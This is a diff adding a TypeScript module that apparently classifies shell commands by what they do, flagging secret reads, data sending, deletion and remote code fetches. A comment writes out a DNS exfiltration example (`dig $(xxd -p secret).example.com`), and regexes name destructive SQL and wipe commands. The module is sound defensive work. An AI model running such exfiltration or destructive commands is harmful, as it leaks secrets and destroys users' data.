@@ -1,0 +1,94 @@
+import { type KindId, kindOf } from '../catalogue.ts'
+import { statementKinds } from '../sql.ts'
+import { isPrivate } from '../targets/paths.ts'
+import { matchesAny } from '../tools/pattern.ts'
+import type { ReadyTool } from '../tools/table.ts'
+import { isDeletingOption, verbKind } from '../verbs.ts'
+import type { Program } from './program.ts'
+import { serviceKinds, sourceKinds, uploadKinds } from './services.ts'
+import { shown } from './situation.ts'
+
+/** What a program does by its table row, by its verbs and by the places that its words name. */
+export function kindsOf(program: Program): readonly KindId[] {
+  const { tool, wraps } = program
+  if (tool === undefined) return unknownKinds(program)
+  const found = ruledKinds(tool, program.given)
+  if (found === undefined) return ['reads']
+  for (const kind of namedKinds(program, tool, found)) found.add(kind)
+  if (found.size === 0 && !(wraps === 'transparent' && kindOf(tool.is).level !== 'high')) found.add(tool.is)
+  return [...found]
+}
+
+/** What the words of a program mean that talks to others: verbs, addresses, what they carry. */
+function namedKinds(program: Program, tool: ReadyTool, found: Set<KindId>): readonly KindId[] {
+  const kinds: KindId[] = []
+  if (tool.is === 'changes-remote') {
+    addVerb(found, verbKind(program.given.positionals))
+    kinds.push(...serviceKinds(program))
+  } else if (found.has('changes-remote')) kinds.push(...uploadKinds(program))
+  if (connecting.has(tool.is) || [...found].some((kind) => connecting.has(kind)))
+    kinds.push(...sourceKinds(program))
+  if (tool.hosts === true && leaks(program)) kinds.push('sends-data')
+  return kinds
+}
+
+/** `dig $(xxd -p secret).example.com`: what is asked for carries data out, and so does a file of questions. */
+function leaks(program: Program): boolean {
+  const { argv, given } = program
+  return (
+    argv.some((value) => value.flow.secret) ||
+    given.options.some((option) => option.value !== undefined && isPrivate(option.value)) ||
+    given.positionals.some((word) => /^[/~]/.test(word) && isPrivate(word))
+  )
+}
+
+/** Programs to which it matters whose address they are given. */
+const connecting: ReadonlySet<KindId> = new Set<KindId>([
+  'installs',
+  'publishes',
+  'fetches',
+  'contacts-network',
+  'changes-settings',
+  'changes-repository',
+  'changes-remote',
+])
+
+/** What the rules of a tool say; undefined where one of them says that it does nothing. */
+function ruledKinds(tool: ReadyTool, given: Program['given']): Set<KindId> | undefined {
+  const found = new Set<KindId>()
+  const where = tool.is === 'changes-remote' ? 'deep' : 'first'
+  for (const [kind, patterns] of tool.patterns) {
+    if (!matchesAny(patterns, given, where)) continue
+    if (kind === 'harmless') return undefined
+    found.add(kind)
+  }
+  return found
+}
+
+/** A verb that reads takes back what a rule saw in a noun; reading credentials and deleting stand. */
+function addVerb(found: Set<KindId>, verb: KindId | undefined): void {
+  if (verb === undefined) return
+  if (verb !== 'reads') {
+    found.add(verb)
+    return
+  }
+  for (const kind of found) if (kind !== 'reads-secrets' && kind !== 'deletes-resources') found.delete(kind)
+  if (found.size === 0) found.add('reads')
+}
+
+const statementName = /^(?:drop|delete|truncate|alter|update|insert|grant|revoke|flushall|flushdb|shutdown)$/i
+
+function unknownKinds(program: Program): readonly KindId[] {
+  const { given, name } = program
+  const statements = statementName.test(name) ? statementKinds(shown(program.argv)) : []
+  if (statements.length > 0) return statements
+  // `npx https://…`: what is named by its address is fetched first.
+  if (/^(?:git\+)?(?:https?|git|ssh):\/\//.test(program.argv[0]?.text ?? '')) return ['runs-download']
+  const verb = verbKind(given.positionals)
+  const deletes =
+    verb === 'deletes-resources' ||
+    given.options.some((option) => isDeletingOption(option.name)) ||
+    verbKind([name]) === 'deletes-resources' ||
+    /(?:^|[-_/])(?:destroy|delete|purge|wipe|erase|drop|uninstall)(?:\.(?:sh|py))?$/.test(name)
+  return deletes ? ['deletes-resources'] : ['unknown-program']
+}
